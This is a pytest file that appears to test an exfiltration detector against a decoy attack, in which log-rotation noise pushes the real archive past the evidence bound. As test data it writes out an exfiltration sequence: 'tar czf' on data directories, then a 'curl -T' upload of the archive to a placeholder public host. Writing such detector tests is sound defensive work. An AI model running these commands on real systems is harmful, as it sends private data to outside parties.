"""Class 1 of issue 11: decoys fill an episode's evidence bound so the real archive is dropped,
and a benign profile then judges the episode by the decoys alone. Dropping evidence must never
make a finding milder."""

from __future__ import annotations

from pathlib import Path

import pytest

from tests.adversarial.trace import FORMATS, PUBLIC, Trace, detect, exfil


def decoys_then_real(decoys: int = 64) -> Trace:
    trace = Trace()
    for n in range(decoys):
        # log rotation shape: gzip run by logrotate on /var/log files
        trace.run(n * 0.1, "gzip", f"/var/log/app/app-{n}.log")
    tar = trace.run(30, "tar", "czf", "a.tgz", "/data")
    trace.write_file(30.5, tar, "/a.tgz")
    curl = trace.run(40, "curl", "-T", "a.tgz", f"https://{PUBLIC}/")
    trace.send(40.2, curl, PUBLIC, 5_000_000)
    return trace


@pytest.mark.parametrize("fmt", [*FORMATS, "auditd"])
def test_decoys_beyond_the_bound_do_not_hide_the_real_archive(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], fmt: str
) -> None:
    path = decoys_then_real().write(tmp_path, fmt)
    [alert] = exfil(detect(capsys, str(path)))
    assert alert["severity_id"] >= 4  # high: curl names the archive it uploads
    commands = [
        (e.get("process") or {}).get("cmd_line", "")  # type: ignore[union-attr]
        for e in alert["evidences"]  # type: ignore[attr-defined]
    ]
    assert any("tar czf a.tgz" in c for c in commands), commands


@pytest.mark.parametrize("fmt", FORMATS)
def test_a_profile_that_saw_only_decoys_neither_suppresses_nor_lowers(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], fmt: str
) -> None:
    # Decoys as strong as the real archive (the same archiver, a log-rotation path), so the
    # bound keeps them and drops the real one: the log-rotation profile covers every kept
    # archive, but it did not see the one the upload names.
    trace = Trace()
    for n in range(80):
        trace.run(n * 0.1, "tar", "czf", f"/var/log/app/{n}.log.gz", f"/var/log/app/{n}.log")
    trace.run(30, "tar", "czf", "/tmp/a.tgz", "/srv/data")
    curl = trace.run(40, "curl", "-T", "/tmp/a.tgz", f"https://{PUBLIC}/")
    trace.send(40.2, curl, PUBLIC, 5_000_000)
    [alert] = exfil(detect(capsys, str(trace.write(tmp_path, fmt))))
    assert alert["severity_id"] == 5
    unmapped = str(alert)  # the reasons, wherever the OCSF rendering puts them
    assert "names the archive a.tgz" in unmapped, unmapped
    assert "log-rotation" in unmapped
    assert "not applied" in unmapped
    assert "beyond the evidence bound" in unmapped
